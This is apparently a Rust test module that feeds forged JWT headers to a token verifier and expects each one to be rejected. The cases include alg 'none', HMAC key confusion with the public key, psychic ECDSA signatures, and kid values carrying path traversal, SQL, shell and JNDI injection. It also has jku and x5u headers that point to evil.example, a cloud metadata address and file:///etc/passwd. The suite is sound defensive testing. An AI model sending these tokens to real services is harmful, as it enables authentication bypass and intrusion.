//! Headers that ask for another algorithm, another key or another way to read the token.

use aws_lc_rs::encoding::{AsDer as _, PublicKeyX509Der};
use aws_lc_rs::hmac;
use aws_lc_rs::rand::SystemRandom;
use aws_lc_rs::signature::{
    ECDSA_P256_SHA256_FIXED_SIGNING, EcdsaKeyPair, Ed25519KeyPair, KeyPair as _, RSA_PKCS1_SHA384,
    RSA_PKCS1_SHA512, RSA_PSS_SHA256, RSA_PSS_SHA512, RsaEncoding,
};
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use passage_identity::test_util::TestToken;
use serde_json::{Value, json};

use crate::hostile::fixture::{Fixture, USER, b64, parts, signing_jwk, token};
use crate::hostile::rows;
use crate::hostile::run::Case;

pub(crate) fn cases(fixture: &Fixture, cases: &mut Vec<Case>) {
    no_algorithm(fixture, cases);
    shared_secrets(fixture, cases);
    other_algorithms(fixture, cases);
    extensions(fixture, cases);
    types(fixture, cases);
    key_names(fixture, cases);
    embedded_keys(fixture, cases);
}

fn no_algorithm(fixture: &Fixture, cases: &mut Vec<Case>) {
    let unsigned = |alg: Value| format!("{}.", fixture.signed_with(&[("alg", alg)]));
    let signed = |alg: Value| fixture.header_with("alg", alg);
    rows! { cases:
        UnsupportedAlgorithm, "alg: none, unsigned", "RFC 8725, 2.1", "anybody can write it" => unsigned(json!("none"));
        UnsupportedAlgorithm, "alg: None, unsigned", "RFC 8725, 2.1", "a block list that minds the case" => unsigned(json!("None"));
        UnsupportedAlgorithm, "alg: NONE, unsigned", "RFC 8725, 2.1", "a block list that minds the case" => unsigned(json!("NONE"));
        UnsupportedAlgorithm, "alg: nOnE, unsigned", "RFC 8725, 2.1", "a block list that minds the case" => unsigned(json!("nOnE"));
        UnsupportedAlgorithm, "alg: none with a blank", "RFC 8725, 2.1", "a block list that does not trim" => unsigned(json!("none "));
        UnsupportedAlgorithm, "alg: none, signed", "RFC 8725, 3.1", "a good signature does not make none acceptable" => signed(json!("none"));
        UnsupportedAlgorithm, "alg: empty", "RFC 7515, 4.1.1", "no algorithm" => unsigned(json!(""));
        UnsupportedAlgorithm, "alg: null", "RFC 7515, 4.1.1", "no algorithm" => signed(json!(null));
        UnsupportedAlgorithm, "alg: null, unsigned", "RFC 7515, 4.1.1", "no algorithm" => unsigned(json!(null));
        UnsupportedAlgorithm, "alg: absent", "RFC 7515, 4.1.1", "alg must be present" => fixture.mint(TestToken::new(USER).without_header("alg"));
        UnsupportedAlgorithm, "alg: a number", "RFC 7515, 4.1.1", "alg is a string" => signed(json!(256));
        UnsupportedAlgorithm, "alg: true", "RFC 7515, 4.1.1", "alg is a string" => signed(json!(true));
        UnsupportedAlgorithm, "alg: an array", "RFC 7515, 4.1.1", "alg is a string" => signed(json!(["RS256"]));
        UnsupportedAlgorithm, "alg: an object", "RFC 7515, 4.1.1", "alg is a string" => signed(json!({"name": "RS256"}));
        UnsupportedAlgorithm, "alg: in small letters", "RFC 7515, 4.1.1", "alg minds the case" => signed(json!("rs256"));
        UnsupportedAlgorithm, "alg: with a blank", "RFC 7515, 4.1.1", "alg is compared as it is" => signed(json!("RS256 "));
        UnsupportedAlgorithm, "alg: with NUL", "RFC 7515, 4.1.1", "a C string would end here" => signed(json!("RS256\u{0}none"));
        UnsupportedAlgorithm, "alg: in wide letters", "RFC 7515, 4.1.1", "some normalise them to RS256" => signed(json!("ＲＳ２５６"));
        UnsupportedAlgorithm, "alg: only in capitals as a name", "RFC 7515, 4", "names mind the case" => fixture.mint(TestToken::new(USER).without_header("alg").header("ALG", "RS256"));
    }
}

/// The public key as the secret of an HMAC, in every text that a verifier may hold it as.
fn shared_secrets(fixture: &Fixture, cases: &mut Vec<Case>) {
    let hmac = |alg: &str, kid: Option<&str>, secret: &[u8]| {
        let algorithm = match alg {
            "HS256" => hmac::HMAC_SHA256,
            "HS384" => hmac::HMAC_SHA384,
            _ => hmac::HMAC_SHA512,
        };
        let kid = kid.unwrap_or(fixture.issuer.kid());
        let signed = fixture.signed_with(&[("alg", json!(alg)), ("kid", json!(kid))]);
        let tag = hmac::sign(&hmac::Key::new(algorithm, secret), signed.as_bytes());
        token(&signed, tag)
    };
    let hs256 = |secret: &[u8]| hmac("HS256", None, secret);
    let public = fixture.pair.public_key();
    let spki: PublicKeyX509Der<'_> = public.as_der().unwrap();
    let pem = pem("PUBLIC KEY", spki.as_ref());
    let pkcs1 = crate::hostile::header::pem("RSA PUBLIC KEY", public.as_ref());
    let jwk = signing_jwk(&fixture.issuer);
    let n = public.modulus().big_endian_without_leading_zero().to_vec();
    rows! { cases:
        UnsupportedAlgorithm, "HS256: the PEM key", "CVE-2015-9235", "the public key as a shared secret" => hs256(pem.as_bytes());
        UnsupportedAlgorithm, "HS256: the PEM key without its last line break", "CVE-2016-10555", "the public key as a shared secret" => hs256(pem.trim_end().as_bytes());
        UnsupportedAlgorithm, "HS256: the PEM key with CRLF", "CVE-2016-10555", "the public key as a shared secret" => hs256(pem.replace('\n', "\r\n").as_bytes());
        UnsupportedAlgorithm, "HS256: the PKCS #1 PEM key", "CVE-2017-11424", "a block list of PEM headers that lacks this one" => hs256(pkcs1.as_bytes());
        UnsupportedAlgorithm, "HS256: the OpenSSH key", "CVE-2022-29217", "a block list of PEM headers knows no ssh-rsa" => hs256(openssh(&n).as_bytes());
        UnsupportedAlgorithm, "HS256: the DER key", "CVE-2015-9235", "the public key as a shared secret" => hs256(spki.as_ref());
        UnsupportedAlgorithm, "HS256: the PKCS #1 DER key", "CVE-2015-9235", "the public key as a shared secret" => hs256(public.as_ref());
        UnsupportedAlgorithm, "HS256: the modulus", "CVE-2015-9235", "the public key as a shared secret" => hs256(&n);
        UnsupportedAlgorithm, "HS256: the modulus as text", "CVE-2015-9235", "the public key as a shared secret" => hs256(jwk["n"].as_str().unwrap().as_bytes());
        UnsupportedAlgorithm, "HS256: the JWK", "CVE-2015-9235", "the public key as a shared secret" => hs256(jwk.to_string().as_bytes());
        UnsupportedAlgorithm, "HS256: the whole key set", "CVE-2015-9235", "the public key as a shared secret" => hs256(fixture.issuer.jwks_json().as_bytes());
        UnsupportedAlgorithm, "HS256: no secret", "RFC 8725, 3.5", "a key that could not be read as an empty secret" => hs256(b"");
        UnsupportedAlgorithm, "HS256: the kid", "RFC 8725, 3.10", "the kid as a shared secret" => hs256(fixture.issuer.kid().as_bytes());
        UnsupportedAlgorithm, "HS256: a file of no content", "RFC 8725, 3.10", "kid as a path, an empty file as the secret" => hmac("HS256", Some("../../../../dev/null"), b"");
        UnsupportedAlgorithm, "HS256: a secret out of a query", "RFC 8725, 3.10", "kid as SQL, the secret chosen by the sender" => hmac("HS256", Some("x' UNION SELECT 'secret"), b"secret");
        UnsupportedAlgorithm, "HS384: the PEM key", "CVE-2015-9235", "the public key as a shared secret" => hmac("HS384", None, pem.as_bytes());
        UnsupportedAlgorithm, "HS512: the PEM key", "CVE-2015-9235", "the public key as a shared secret" => hmac("HS512", None, pem.as_bytes());
    }
}

fn other_algorithms(fixture: &Fixture, cases: &mut Vec<Case>) {
    let rsa = |alg: &str, encoding: &'static dyn RsaEncoding| {
        let signed = fixture.signed(alg);
        let mut signature = vec![0; fixture.pair.public_modulus_len()];
        let random = SystemRandom::new();
        fixture
            .pair
            .sign(encoding, &random, signed.as_bytes(), &mut signature)
            .unwrap();
        token(&signed, signature)
    };
    let ec = EcdsaKeyPair::generate(&ECDSA_P256_SHA256_FIXED_SIGNING).unwrap();
    let point = ec.public_key().as_ref();
    let ec_jwk = json!({"kty": "EC", "crv": "P-256", "kid": fixture.issuer.kid(), "x": b64(&point[1..33]), "y": b64(&point[33..])});
    let es256 = fixture.signed_with(&[("alg", json!("ES256")), ("jwk", ec_jwk)]);
    let es256_signature = ec.sign(&SystemRandom::new(), es256.as_bytes()).unwrap();
    let ed = Ed25519KeyPair::generate().unwrap();
    let ed_jwk = json!({"kty": "OKP", "crv": "Ed25519", "x": b64(ed.public_key().as_ref())});
    let eddsa = fixture.signed_with(&[("alg", json!("EdDSA")), ("jwk", ed_jwk)]);
    rows! { cases:
        UnsupportedAlgorithm, "alg: RS384 by the right key", "RFC 8725, 3.1", "only the algorithm of the app" => rsa("RS384", &RSA_PKCS1_SHA384);
        UnsupportedAlgorithm, "alg: RS512 by the right key", "RFC 8725, 3.1", "only the algorithm of the app" => rsa("RS512", &RSA_PKCS1_SHA512);
        UnsupportedAlgorithm, "alg: PS256 by the right key", "RFC 8725, 3.1", "one key, one algorithm" => rsa("PS256", &RSA_PSS_SHA256);
        UnsupportedAlgorithm, "alg: PS512 by the right key", "RFC 8725, 3.1", "one key, one algorithm" => rsa("PS512", &RSA_PSS_SHA512);
        UnsupportedAlgorithm, "alg: ES256 with the key inside", "CVE-2018-0114", "the sender's own key" => token(&es256, es256_signature);
        UnsupportedAlgorithm, "alg: ES256, psychic signature", "CVE-2022-21449", "r and s of zero fit everything" => token(&fixture.signed("ES256"), [0; 64]);
        UnsupportedAlgorithm, "alg: ES256, psychic signature in DER", "CVE-2022-21449", "r and s of zero fit everything" => token(&fixture.signed("ES256"), [0x30, 6, 2, 1, 0, 2, 1, 0]);
        UnsupportedAlgorithm, "alg: ES384, psychic signature", "CVE-2022-21449", "r and s of zero fit everything" => token(&fixture.signed("ES384"), [0; 96]);
        UnsupportedAlgorithm, "alg: ES256K", "RFC 8812, 3.2", "not the algorithm of the app" => token(&fixture.signed("ES256K"), [1; 64]);
        UnsupportedAlgorithm, "alg: EdDSA with the key inside", "RFC 8037, 3.1", "the sender's own key" => token(&eddsa, ed.sign(eddsa.as_bytes()));
        UnsupportedAlgorithm, "alg: RSA1_5", "RFC 7518, 4.2", "encryption, not a signature" => fixture.header_with("alg", "RSA1_5");
        UnsupportedAlgorithm, "alg: dir", "RFC 7518, 4.5", "encryption, not a signature" => fixture.header_with("alg", "dir");
        UnsupportedAlgorithm, "alg: PBES2", "RFC 7518, 4.8", "p2c makes the verifier count" => fixture.mint(TestToken::new(USER).header("alg", "PBES2-HS256+A128KW").header("p2c", 2_147_483_647));
        UnsupportedAlgorithm, "alg: parts swapped", "RFC 7519, 7.2", "the claims where the header should be" => swapped(fixture);
    }
}

fn swapped(fixture: &Fixture) -> String {
    let good = fixture.good();
    let [header, claims, _] = parts(&good);
    let signed = format!("{claims}.{header}");
    let signature = fixture.issuer.sign(&signed).unwrap();
    token(&signed, signature)
}

fn extensions(fixture: &Fixture, cases: &mut Vec<Case>) {
    let crit = |value: Value| fixture.header_with("crit", value);
    rows! { cases:
        UnsupportedCritical, "crit: an unknown extension", "RFC 7515, 4.1.11", "what is not understood must be refused" => fixture.mint(TestToken::new(USER).header("crit", json!(["urn:x"])).header("urn:x", 1));
        UnsupportedCritical, "crit: a name that is absent", "RFC 7515, 4.1.11", "names in crit must be present" => crit(json!(["urn:x"]));
        UnsupportedCritical, "crit: a name that needs no crit", "RFC 7515, 4.1.11", "names of the RFC must not be listed" => crit(json!(["alg"]));
        UnsupportedCritical, "crit: a claim", "RFC 7515, 4.1.11", "exp in the header is not exp" => fixture.mint(TestToken::new(USER).header("crit", json!(["exp"])).header("exp", 9_999_999_999_i64));
        UnsupportedCritical, "crit: empty", "RFC 7515, 4.1.11", "the list must not be empty" => crit(json!([]));
        UnsupportedCritical, "crit: a string", "RFC 7515, 4.1.11", "crit is an array" => crit(json!("b64"));
        UnsupportedCritical, "crit: null", "RFC 7515, 4.1.11", "crit is an array" => crit(json!(null));
        UnsupportedCritical, "crit: its name escaped", "RFC 7515, 4.1.11", "another spelling of the same name" => fixture.header_text(format!(r#"{{"alg":"RS256","kid":"{}","cr\u0069t":["x"]}}"#, fixture.issuer.kid()));
        UnsupportedCritical, "b64: false, marked critical", "RFC 7797, 3", "the claims would be read unencoded" => fixture.mint(TestToken::new(USER).header("b64", false).header("crit", json!(["b64"])));
        UnsupportedCritical, "b64: false, not marked", "RFC 7797, 6", "b64 must be in crit" => fixture.header_with("b64", false);
        UnsupportedCritical, "b64: true", "RFC 7797, 7", "a JWT must not use b64" => fixture.header_with("b64", true);
        UnsupportedCritical, "zip: DEF", "CVE-2024-28176", "a small token that becomes a large one" => fixture.header_with("zip", "DEF");
        UnsupportedCritical, "zip: null", "RFC 7516, 4.1.3", "zip is for encryption" => fixture.header_with("zip", json!(null));
        Malformed, "b64: claims that are not encoded", "RFC 7797, 5.2", "JSON between the dots" => unencoded(fixture);
    }
}

fn unencoded(fixture: &Fixture) -> String {
    let header =
        json!({"alg": "RS256", "kid": fixture.issuer.kid(), "b64": false, "crit": ["b64"]});
    let signed = format!("{}.{}", b64(header.to_string()), fixture.claims());
    let signature = fixture.issuer.sign(&signed).unwrap();
    token(&signed, signature)
}

fn types(fixture: &Fixture, cases: &mut Vec<Case>) {
    let typ = |value: Value| fixture.header_with("typ", value);
    rows! { cases:
        BadType, "typ: at+jwt", "RFC 9068, 2.1", "an access token of OAuth is no session" => typ(json!("at+jwt"));
        BadType, "typ: logout+jwt", "RFC 8725, 3.11", "a logout token is no session" => typ(json!("logout+jwt"));
        BadType, "typ: secevent+jwt", "RFC 8417, 2.3", "a security event is no session" => typ(json!("secevent+jwt"));
        BadType, "typ: dpop+jwt", "RFC 9449, 4.2", "a proof of possession is no session" => typ(json!("dpop+jwt"));
        BadType, "typ: JOSE", "RFC 7515, 4.1.9", "not a JWT" => typ(json!("JOSE"));
        BadType, "typ: JOSE+JSON", "RFC 7515, 4.1.9", "not a compact token" => typ(json!("JOSE+JSON"));
        BadType, "typ: a media type", "RFC 8725, 3.11", "not what this server writes" => typ(json!("application/jwt"));
        BadType, "typ: with a parameter", "RFC 8725, 3.11", "not what this server writes" => typ(json!("JWT; charset=utf-8"));
        BadType, "typ: with a blank", "RFC 8725, 3.11", "compared as it is" => typ(json!(" JWT"));
        BadType, "typ: with NUL", "RFC 8725, 3.11", "a C string would end here" => typ(json!("JWT\u{0}"));
        BadType, "typ: wide letters", "RFC 8725, 3.11", "some normalise them to JWT" => typ(json!("ＪＷＴ"));
        BadType, "typ: empty", "RFC 8725, 3.11", "present, and not JWT" => typ(json!(""));
        BadType, "typ: null", "RFC 8725, 3.11", "typ is a string" => typ(json!(null));
        BadType, "typ: a number", "RFC 8725, 3.11", "typ is a string" => typ(json!(1));
        BadType, "typ: an array", "RFC 8725, 3.11", "typ is a string" => typ(json!(["JWT"]));
    }
}

fn key_names(fixture: &Fixture, cases: &mut Vec<Case>) {
    let kid = |value: Value| fixture.header_with("kid", value);
    let ours = fixture.issuer.kid();
    rows! { cases:
        UnknownKey, "kid: absent", "RFC 7515, 4.1.4", "trying every key would let the sender choose" => fixture.mint(TestToken::new(USER).without_header("kid"));
        UnknownKey, "kid: empty", "RFC 7515, 4.1.4", "names nothing" => kid(json!(""));
        UnknownKey, "kid: unknown", "RFC 7515, 4.1.4", "names nothing" => kid(json!("canary-of-no-key"));
        UnknownKey, "kid: a path", "RFC 8725, 3.10", "a file as the key" => kid(json!("../../../../../../etc/passwd"));
        UnknownKey, "kid: a path with NUL", "RFC 8725, 3.10", "a file as the key" => kid(json!(format!("{ours}\u{0}/dev/null")));
        UnknownKey, "kid: SQL", "RFC 8725, 3.10", "a query for the key" => kid(json!("canary' OR '1'='1' --"));
        UnknownKey, "kid: a command", "RFC 8725, 3.10", "a shell for the key" => kid(json!("canary; sleep 10 #"));
        UnknownKey, "kid: a URL", "RFC 8725, 3.10", "a host of the sender for the key" => kid(json!("https://evil.example/key"));
        UnknownKey, "kid: LDAP", "RFC 8725, 3.10", "a look-up that runs code" => kid(json!("${jndi:ldap://evil.example/a}"));
        UnknownKey, "kid: a format", "RFC 8725, 3.10", "a format text for the log" => kid(json!("%n%n%s{canary}"));
        UnknownKey, "kid: a line break", "RFC 8725, 3.10", "a forged line for the log" => kid(json!(format!("{ours}\nlevel=info canary")));
        UnknownKey, "kid: a prototype", "RFC 8725, 3.10", "a name that every object has" => kid(json!("__proto__"));
        UnknownKey, "kid: huge", "RFC 8725, 3.10", "8 KiB to look up" => kid(json!("k".repeat(8 * 1024)));
        UnknownKey, "kid: in another case", "RFC 7515, 4.1.4", "kid minds the case" => kid(json!(ours.to_uppercase()));
        UnknownKey, "kid: with a blank", "RFC 7515, 4.1.4", "compared as it is" => kid(json!(format!("{ours} ")));
        UnknownKey, "kid: the start of ours", "RFC 7515, 4.1.4", "compared as a whole" => kid(json!(&ours[..ours.len() - 1]));
        UnknownKey, "kid: more than ours", "RFC 7515, 4.1.4", "compared as a whole" => kid(json!(format!("{ours}0")));
        UnknownKey, "kid: wide digits", "RFC 7515, 4.1.4", "some normalise them" => kid(json!(ours.replace('1', "１")));
        UnknownKey, "kid: a pattern", "RFC 8725, 3.10", "a pattern that fits every name" => kid(json!("testKey*"));
        UnknownKey, "kid: only as a claim", "RFC 7515, 4.1.4", "kid belongs into the header" => fixture.mint(TestToken::new(USER).without_header("kid").claim("kid", ours));
        Malformed, "kid: a number", "RFC 7515, 4.1.4", "kid is a string" => kid(json!(0));
        Malformed, "kid: null", "RFC 7515, 4.1.4", "kid is a string" => kid(json!(null));
        Malformed, "kid: true", "RFC 7515, 4.1.4", "kid is a string" => kid(json!(true));
        Malformed, "kid: an array", "RFC 7515, 4.1.4", "kid is a string" => kid(json!([ours]));
        Malformed, "kid: an object", "RFC 7515, 4.1.4", "kid is a string" => kid(json!({"$ne": null}));
    }
}

/// Tokens that bring the key they were signed with.
fn embedded_keys(fixture: &Fixture, cases: &mut Vec<Case>) {
    let forged = || TestToken::new(USER);
    let mint = |token: TestToken| fixture.attacker.mint(token).unwrap();
    let jwk = |kid: &str| {
        let mut jwk = signing_jwk(&fixture.attacker);
        jwk["kid"] = json!(kid);
        jwk
    };
    let self_signed = |kid: &str| mint(forged().kid(kid).header("jwk", jwk(kid)));
    let ours = fixture.issuer.kid();
    let certificate = STANDARD.encode([0x30, 0x03, 0x02, 0x01, 0x01]);
    rows! { cases:
        BadSignature, "jwk: under our kid", "CVE-2018-0114", "the sender's own key under the name of ours" => self_signed(ours);
        UnknownKey, "jwk: under a new kid", "CVE-2018-0114", "the sender's own key under a name of its own" => self_signed("canary-own-key");
        UnknownKey, "jwk: without a kid", "CVE-2018-0114", "the sender's own key and no name" => mint(forged().without_header("kid").header("jwk", jwk("x")));
        BadSignature, "jwk: a shared secret", "RFC 7515, 4.1.3", "a symmetric key in the open" => mint(forged().header("jwk", json!({"kty": "oct", "k": "c2VjcmV0"})));
        BadSignature, "jku: a host of the sender", "RFC 7515, 4.1.2", "keys from the sender's host" => mint(forged().header("jku", "https://evil.example/jwks.json"));
        BadSignature, "jku: a host inside", "RFC 8725, 3.10", "a request that the verifier makes for the sender" => mint(forged().header("jku", "http://169.254.169.254/latest/meta-data/"));
        BadSignature, "jku: a file", "RFC 8725, 3.10", "a file as the key set" => mint(forged().header("jku", "file:///etc/passwd"));
        BadSignature, "jku: our own host and another", "RFC 8725, 3.10", "a check of the start of the URL only" => mint(forged().header("jku", format!("{}@evil.example/", fixture.issuer.issuer())));
        UnknownKey, "jku: with an unknown kid", "RFC 7515, 4.1.2", "keys from the sender's host" => mint(forged().kid("canary-own-key").header("jku", "https://evil.example/jwks.json"));
        BadSignature, "x5u: a host of the sender", "RFC 7515, 4.1.5", "a certificate from the sender's host" => mint(forged().header("x5u", "https://evil.example/cert.pem"));
        BadSignature, "x5c: a certificate of the sender", "RFC 7515, 4.1.6", "a certificate that nobody vouches for" => mint(forged().header("x5c", json!([certificate])));
        BadSignature, "x5t: a thumbprint of the sender", "RFC 7515, 4.1.7", "a name for the sender's certificate" => mint(forged().header("x5t", b64([7; 20])));
    }
}

fn pem(label: &str, der: &[u8]) -> String {
    let text = STANDARD.encode(der);
    let lines: Vec<_> = text
        .as_bytes()
        .chunks(64)
        .map(|line| std::str::from_utf8(line).unwrap())
        .collect();
    format!(
        "-----BEGIN {label}-----\n{}\n-----END {label}-----\n",
        lines.join("\n")
    )
}

/// `ssh-rsa`, exponent and modulus (RFC 4253, 6.6).
fn openssh(n: &[u8]) -> String {
    let n = [&[0], n].concat();
    let fields: [&[u8]; 3] = [b"ssh-rsa", &[1, 0, 1], &n];
    let wire: Vec<u8> = fields
        .iter()
        .flat_map(|field| [&u32::try_from(field.len()).unwrap().to_be_bytes(), *field].concat())
        .collect();
    format!("ssh-rsa {}", STANDARD.encode(wire))
}
